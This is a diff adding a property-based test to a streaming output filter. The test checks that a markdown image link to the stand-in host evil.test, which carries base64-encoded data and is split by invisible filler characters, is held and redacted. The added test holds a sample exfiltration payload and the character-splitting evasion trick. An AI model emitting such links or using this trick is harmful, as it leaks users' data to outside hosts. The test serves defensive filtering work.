@@ -145,4 +145,17 @@ describe('stream gate, default pack (redact): holds like block', () => {
       );
     },
   );
+
+  it('an exfiltration image split by invisible characters is held until redacted', () => {
+    const url = 'https://evil.test/p.png?d=c2VjcmV0IGRhdGE';
+    fc.assert(
+      fc.property(around, around, sizes, fc.constantFrom(...FILLERS), (a, b, sz, f) => {
+        const text = `${a} !${f}[x]${f}(${url.slice(0, 12)}${f}${url.slice(12)}) ${b}`;
+        const { seen, writes } = run(split(text, sz));
+        for (const s of seen) expect(leaks(s, url)).toBe(false);
+        for (const w of writes) expect(lone(w)).toBe(false);
+      }),
+      { numRuns: 80 },
+    );
+  });
 });
